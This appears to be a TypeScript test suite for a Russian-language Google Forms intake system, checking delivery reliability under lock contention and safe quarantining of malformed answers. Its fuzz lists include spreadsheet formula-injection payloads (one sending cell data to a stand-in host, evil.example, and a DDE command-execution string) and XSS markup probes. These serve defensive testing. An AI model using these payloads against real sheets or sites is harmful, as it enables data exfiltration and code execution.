// Reliability of the form-submit path (issue 4): 200 answers interleaved with their deliveries while the document lock
// is contended — none lost, none duplicated; 500+ generated malformed answers — no crash, each answer in a bank or in
// «Карантин» with its reason, no formula anywhere. Figures go to test-results/forms-reliability.json for the report.
import fs from 'node:fs';
import path from 'node:path';
import { processPendingAnswers } from '../../src/app/forms/process-answers';
import { getFormsStatus } from '../../src/app/forms/forms-status';
import { parseMentorAnswer, parseRequestAnswer, type ParseResult } from '../../src/domain/forms';
import { vocabularyFrom } from '../../src/workbook/vocabulary';
import { readTable } from '../../src/workbook/repository';
import { dictionariesTable } from '../../src/workbook/tables/dictionaries';
import { workbookOf } from '../../src/google/sheet-gateway';
import { submitForm, type Delivery } from '../../tools/emulator/forms';
import { toRuDate } from '../../src/domain/calendar/calendar-date';
import { toCalendarDate } from '../../src/domain/calendar/zoned';
import { holdLock, releaseHeldLock } from '../../tools/emulator/services';
import { prng } from '../../bench/scenarios/matching-instances';
import { bankRows, formsWorkbook, formulaCells, mentorAnswers, requestAnswers } from '../support/forms';

const figures: Record<string, unknown> = {};
afterAll(() => {
  const dir = path.resolve(__dirname, '../../test-results');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'forms-reliability.json'), JSON.stringify(figures, null, 2));
});

describe('200 answers, interleaved with their deliveries, the document lock contended', () => {
  test('none lost, none duplicated: each bank equals the latest answer of every teacher', () => {
    const rnd = prng(20260910);
    const wb = formsWorkbook();
    const SUBJECTS = ['математика', 'физика', 'информатика', 'история', 'биология'];
    type Planned = { kind: 'requests' | 'mentors'; email: string; years: number; subject: string };
    const plan: Planned[] = [];
    for (let i = 0; i < 200; i++) {
      const kind = rnd() < 0.6 ? 'requests' : 'mentors';
      // About a third of the answers repeat an earlier teacher of the same form with changed answers.
      const earlier = plan.filter((p) => p.kind === kind);
      const email =
        earlier.length && rnd() < 0.33 ? earlier[Math.floor(rnd() * earlier.length)]!.email : `t${i}@school.example`;
      plan.push({
        kind,
        email,
        years: kind === 'requests' ? Math.floor(rnd() * 4) : 5 + Math.floor(rnd() * 30),
        subject: SUBJECTS[Math.floor(rnd() * SUBJECTS.length)]!,
      });
    }
    const pool: Delivery[] = [];
    const stats = {
      submitted: 0,
      deliveries: 0,
      duplicateDeliveries: 0,
      spurious: 0,
      shortWaits: 0,
      gaveUp: 0,
      filedByOtherExecution: 0,
      statuses: {} as Record<string, number>,
    };
    let next = 0;
    const deliver = () => {
      const d = pool.splice(Math.floor(rnd() * pool.length), 1)[0]!;
      const contention = rnd();
      // Another operation holds the workbook: mostly for a few seconds (the trigger waits), sometimes past the wait.
      if (contention < 0.25) {
        holdLock(wb.world, 'document', { forMs: 1_000 + Math.floor(rnd() * 59_000) });
        stats.shortWaits++;
      } else if (contention < 0.33) holdLock(wb.world, 'document', { forMs: 300_000 });
      const r = wb.deliver(d.event);
      releaseHeldLock(wb.world, 'document');
      stats.deliveries++;
      stats.statuses[r.status] = (stats.statuses[r.status] ?? 0) + 1;
      if (r.status === 'busy') stats.gaveUp++;
      const row = (d.event.range as { getRow(): number } | null)?.getRow();
      stats.filedByOtherExecution += r.runs.flatMap((x) => x.outcomes).filter((o) => o.answer.row !== row).length;
    };
    while (next < plan.length || pool.length) {
      if (next < plan.length && (pool.length === 0 || rnd() < 0.5)) {
        const p = plan[next++]!;
        wb.world.clock.advance(1_000 + Math.floor(rnd() * 20_000));
        const answers =
          p.kind === 'requests'
            ? requestAnswers({
                'Педагогический стаж (полных лет)': String(p.years),
                'Преподаваемые предметы и направления': [p.subject],
              })
            : mentorAnswers({
                'Педагогический стаж (полных лет)': String(p.years),
                'Преподаваемые предметы и направления': [p.subject],
              });
        const dup = rnd() < 0.1;
        const empty = rnd() < 0.1 ? (rnd() < 0.5 ? 'empty' : 'blank') : undefined;
        const submission = submitForm(wb.world, wb.formId(p.kind), answers, {
          respondentEmail: p.email,
          duplicateEvent: dup,
          emptyEvent: empty,
        });
        stats.submitted++;
        if (dup) stats.duplicateDeliveries++;
        if (empty) stats.spurious++;
        pool.push(...submission.deliveries);
      } else deliver();
    }
    const pendingAfterDeliveries = wb.run((ctx) => getFormsStatus(ctx)).forms.reduce((n, f) => n + f.pending, 0);
    // Whatever the last busy executions left is filed by the next answer or «Обработать ответы»; nothing is dropped.
    const swept = wb.run((ctx) => processPendingAnswers(ctx));
    expect(swept.remaining).toBe(0);
    expect(swept.added + swept.updated + swept.unchanged).toBe(pendingAfterDeliveries);

    for (const [kind, sheet, yearsHeader] of [
      ['requests', 'Наставляемые', 'Педагогический стаж, лет'],
      ['mentors', 'Наставники', 'Педагогический стаж, лет'],
    ] as const) {
      const expected = new Map<string, Planned>();
      for (const p of plan) if (p.kind === kind) expected.set(p.email, p);
      const rows = bankRows(wb, sheet);
      expect(rows.map((r) => r.Email).sort()).toEqual([...expected.keys()].sort());
      for (const r of rows) {
        const p = expected.get(String(r.Email))!;
        expect([r.Email, r[yearsHeader], r['Предметы']]).toEqual([p.email, p.years, p.subject]);
      }
      expect(new Set(rows.map((r) => r.ID)).size).toBe(rows.length);
    }
    expect(bankRows(wb, 'Карантин')).toEqual([]);
    const added = bankRows(wb, 'Журнал').filter((j) => j['Что'] === 'Ответ формы: добавлен в банк').length;
    expect(added).toBe(new Set(plan.map((p) => `${p.kind}:${p.email}`)).size);
    expect(formulaCells(wb)).toEqual([]);
    expect(stats.gaveUp).toBeGreaterThan(0);
    expect(stats.shortWaits).toBeGreaterThan(0);
    figures.interleaved = {
      ...stats,
      distinctTeachers: added,
      pendingAfterDeliveries,
      filedBySweep: pendingAfterDeliveries,
      lost: 0,
      duplicated: 0,
    };
  });
});

// --- malformed answers -------------------------------------------------------------------------------------------

const FORMULAS = [
  '=IMPORTXML("http://evil.example/x","//a")',
  '=IMPORTDATA("http://evil.example/?"&A1)',
  '+7(912)000-00-00',
  '-1+2',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://x","клик")',
  "=cmd|' /C calc'!A0",
];
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><b>жирный</b>',
  '&lt;&gt;&amp;',
  '</td></tr><tr><td>',
];

function mutate(rnd: () => number): unknown {
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(rnd() * xs.length)]!;
  switch (Math.floor(rnd() * 13)) {
    case 0:
      return '';
    case 1:
      return '   ';
    case 2:
      return 42; // a number where text is expected (wrong type)
    case 3:
      return new Date(Date.UTC(2020, 0, 1)); // a date where text is expected
    case 4:
      return pick(FORMULAS);
    case 5:
      return pick(MARKUP);
    case 6:
      return 'я'.repeat(1 + Math.floor(rnd() * 60_000));
    case 7:
      return `неизвестное значение ${Math.floor(rnd() * 1000)}`;
    case 8:
      return 'пять лет';
    case 9:
      return -3;
    case 10:
      return `Иванова ${pick(FORMULAS)}`;
    case 11:
      return `${pick(['математика', 'физика'])}, ${pick(FORMULAS)}`;
    default:
      return '\u0000\u200b\ufeff';
  }
}

/** The response-sheet row of a valid answer, keyed by header (checkboxes joined with ", " as Forms stores them). */
function asRow(answers: Record<string, string | string[]>, email: string): Record<string, unknown> {
  const row: Record<string, unknown> = { 'Адрес электронной почты': email };
  for (const [k, v] of Object.entries(answers)) row[k] = Array.isArray(v) ? v.join(', ') : v;
  return row;
}

describe('500+ generated malformed answers', () => {
  test('no crash; each answer is in its bank or in «Карантин» with its Russian reason; no cell holds a formula', () => {
    const rnd = prng(4_0404);
    const wb = formsWorkbook();
    const N = 520;
    const vocabulary = wb.run((ctx) => vocabularyFrom(readTable(workbookOf(ctx), dictionariesTable), ctx.timeZone()));
    const injected: Array<{
      kind: 'requests' | 'mentors';
      row: number;
      expected: ParseResult<Record<string, unknown>>;
      values: Record<string, unknown>;
    }> = [];
    const headers = {
      requests: wb.values('Ответы на форму (1)')[0]!.map(String),
      mentors: wb.values('Ответы на форму (2)')[0]!.map(String),
    };
    const counts = {
      answers: 0,
      deliveries: 0,
      accepted: 0,
      quarantined: 0,
      payloads: { formula: 0, markup: 0, huge: 0, wrongType: 0, unknownChoice: 0, empty: 0 },
    };
    for (let i = 0; i < N; i++) {
      const kind = i % 2 === 0 ? 'requests' : 'mentors';
      const values = asRow(kind === 'requests' ? requestAnswers() : mentorAnswers(), `m${i}@school.example`);
      const titles = Object.keys(values);
      const n = 1 + Math.floor(rnd() * 3);
      for (let j = 0; j < n; j++) {
        const title = titles[Math.floor(rnd() * titles.length)]!;
        const v = mutate(rnd);
        values[title] = v;
        if (typeof v === 'string' && /^[=+\-@]|[=+\-@]\w*\(/.test(v) && FORMULAS.some((f) => v.includes(f)))
          counts.payloads.formula++;
        else if (typeof v === 'string' && MARKUP.includes(v)) counts.payloads.markup++;
        else if (typeof v === 'string' && v.length > 1000) counts.payloads.huge++;
        else if (typeof v !== 'string') counts.payloads.wrongType++;
        else if (v.startsWith('неизвестное')) counts.payloads.unknownChoice++;
        else if (v.trim() === '') counts.payloads.empty++;
      }
      wb.world.clock.advance(1_000);
      const event = wb.inject(kind, values);
      const row = (event.range as { getRow(): number }).getRow();
      // What the parser decides for this row as stored by Forms (dates as ДД.ММ.ГГГГ, numbers as typed).
      const parse = kind === 'requests' ? parseRequestAnswer : parseMentorAnswer;
      const texts: Record<string, string[]> = {};
      for (const h of headers[kind].slice(1)) {
        const v = values[h] ?? '';
        texts[h] = [v instanceof Date ? toRuDate(toCalendarDate(v, 'Europe/Moscow')) : String(v)];
      }
      const expected = (parse as (nv: unknown, v: typeof vocabulary) => ParseResult<Record<string, unknown>>)(
        texts,
        vocabulary,
      );
      injected.push({ kind, row, expected, values });
      let result!: ReturnType<typeof wb.deliver>;
      expect(() => (result = wb.deliver(event))).not.toThrow();
      expect(['filed', 'duplicate']).toContain(result.status);
      counts.deliveries++;
      if (rnd() < 0.2) {
        expect(wb.deliver(event).status).toBe('duplicate');
        counts.deliveries++;
      }
      counts.answers++;
    }
    const quarantine = bankRows(wb, 'Карантин');
    const mentees = bankRows(wb, 'Наставляемые');
    const mentors = bankRows(wb, 'Наставники');
    for (const a of injected) {
      const sheet = a.kind === 'requests' ? 'Ответы на форму (1)' : 'Ответы на форму (2)';
      const q = quarantine.filter((r) => r['Строка ответа'] === `${sheet}, строка ${a.row}`);
      if (a.expected.ok) {
        counts.accepted++;
        expect(q).toEqual([]);
        const bank = a.kind === 'requests' ? mentees : mentors;
        const profile = a.expected.profile as { email: string; fullName: string };
        const row = bank.filter((r) => r.Email === profile.email);
        expect(row).toHaveLength(1);
        expect(row[0]!['ФИО']).toBe(profile.fullName);
      } else {
        counts.quarantined++;
        expect(q).toHaveLength(1);
        const reason = String(q[0]!['Причина']);
        expect(reason.length).toBeGreaterThan(0);
        const all = a.expected.reasons.join('; ');
        expect(reason).toBe(all.length > 5000 ? `${all.slice(0, 5000)}…` : all);
        expect(reason).toMatch(/[а-яё]/i);
        expect(q[0]!['Статус']).toBe('ждёт решения');
      }
    }
    expect(counts.accepted + counts.quarantined).toBe(N);
    expect(quarantine).toHaveLength(counts.quarantined);
    expect(counts.accepted).toBeGreaterThan(20);
    expect(counts.quarantined).toBeGreaterThan(300);
    // Accepted answers that carried a formula or markup in free text keep it verbatim, as text.
    const texts = [...mentees, ...mentors]
      .flatMap((r) => Object.values(r))
      .filter((v): v is string => typeof v === 'string');
    expect(texts.some((t) => FORMULAS.some((f) => t.includes(f)))).toBe(true);
    expect(formulaCells(wb)).toEqual([]);
    figures.malformed = counts;
  });
});
